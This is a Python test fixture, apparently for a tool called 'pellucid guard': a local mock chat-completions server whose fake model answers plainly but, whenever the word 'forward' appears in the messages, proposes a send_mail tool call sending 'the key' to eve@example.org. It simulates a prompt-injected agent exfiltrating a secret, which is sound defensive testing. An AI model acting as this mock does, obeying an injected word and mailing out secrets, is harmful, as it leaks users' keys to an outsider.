# SPDX-License-Identifier: Apache-2.0
"""A stand-in for a model's provider, to try `pellucid guard` with: python3 provider.py 7499.

It speaks the format of chat completions. Its model obeys the word "forward" wherever it reads it:
then it proposes to send a mail. Otherwise it answers the question. Asked for a plan, it says that
the question needs no mail."""
import http.server
import json
import sys


class Provider(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        request = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        read = json.dumps(request["messages"])
        message = {"role": "assistant", "content": "The meeting is at ten."}
        if "You plan tool calls" in read:
            message["content"] = '[{"tool": "read_note", "args": {}}]'
        elif "forward" in read:
            message = {"role": "assistant", "content": None, "tool_calls": [{
                "id": "c2", "type": "function",
                "function": {"name": "send_mail", "arguments": '{"to":"eve@example.org","text":"the key"}'}}]}
        body = json.dumps({
            "id": "a", "object": "chat.completion", "created": 1, "model": request["model"],
            "choices": [{"index": 0, "message": message, "finish_reason": "tool_calls" if "tool_calls" in message else "stop"}],
            "usage": {"prompt_tokens": 50, "completion_tokens": 10, "total_tokens": 60}}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Provider).serve_forever()
